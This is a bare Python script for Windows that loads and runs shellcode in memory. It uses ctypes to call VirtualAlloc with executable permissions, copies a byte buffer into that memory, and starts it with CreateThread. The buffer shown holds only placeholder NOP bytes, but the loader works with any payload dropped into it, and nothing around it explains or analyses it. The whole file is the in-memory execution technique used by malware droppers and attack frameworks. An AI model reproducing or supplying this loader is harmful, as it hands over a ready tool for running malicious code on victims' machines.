import ctypes
code = b"\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90"
k = ctypes.windll.kernel32
k.VirtualAlloc.restype = ctypes.c_void_p
p = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
k.RtlMoveMemory(ctypes.c_void_p(p), code, len(code))
h = k.CreateThread(0, 0, ctypes.c_void_p(p), 0, 0, 0)
k.WaitForSingleObject(h, -1)
